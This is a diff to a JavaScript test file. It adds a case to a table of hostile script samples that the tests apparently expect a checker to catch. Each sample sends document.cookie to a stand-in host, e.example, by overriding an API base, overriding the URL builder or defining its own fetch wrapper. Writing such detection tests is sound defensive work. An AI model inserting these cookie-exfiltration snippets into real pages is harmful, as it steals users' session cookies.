@@ -47,6 +47,10 @@ describe('the checks hold a script', () => {
       'import { api } from "../scripts/api.js"; api.api_base = "//e.example"; api.fetchApi("/a", { body: document.cookie });',
     ],
     [
+      'that replaces what makes the addresses of the host’s client',
+      'import { api } from "../scripts/api.js"; api.apiURL = (path) => "https://e.example" + path; api.fetchApi("/a", { body: document.cookie });',
+    ],
+    [
       'that sends with its own function of the name of the host’s',
       'const fetchApi = (u, o) => fetch(u, o); fetchApi("https://e.example", { body: document.cookie });',
     ],
